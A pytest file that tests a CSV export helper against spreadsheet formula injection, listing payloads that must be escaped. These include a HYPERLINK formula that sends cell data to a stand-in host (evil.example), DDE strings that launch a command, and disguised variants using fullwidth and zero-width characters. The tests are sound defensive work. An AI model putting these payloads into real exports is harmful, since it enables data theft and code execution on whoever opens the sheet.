"""What no spreadsheet may execute."""

from __future__ import annotations

import csv
import io

import pytest

from review_service.audit.sheets import harmless, sheet

ATTACKS = [
    "=1+1",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '"=1+1',
    "'=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\u200b=1+1",
    "\ufeff=1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_cell_that_begins_like_a_formula_is_text(attack: str):
    assert harmless(attack) == "'" + attack or harmless(attack) == "'" + attack[0] + "'" + attack[1:]
    (row,) = csv.reader(io.StringIO(sheet([[attack, "next"]]), newline=""))
    assert row == [harmless(attack), "next"]


@pytest.mark.parametrize("separator", [";", "\t", "\r", "\n", "; ", ';"'])
def test_a_formula_behind_another_separator_is_text_too(separator: str):
    before, _, after = harmless(f"林{separator}=1+1").partition("=")
    assert "'" in before.removeprefix("林")[len(separator.rstrip(" \"'")) :]
    assert after == "1+1"


@pytest.mark.parametrize("name", ["林怡君", "O'Brien", "S-1", "歐陽-林", "a, b", "2026-11-24 09:05:03", "", "::1"])
def test_a_plain_cell_stays_as_it_is(name: str):
    assert harmless(name) == name


def test_everything_is_quoted_and_lines_end_with_crlf():
    assert sheet([["1", '林"怡,君'], ["", "兩\n行"]]) == '"1","林""怡,君"\r\n"","兩\n行"\r\n'
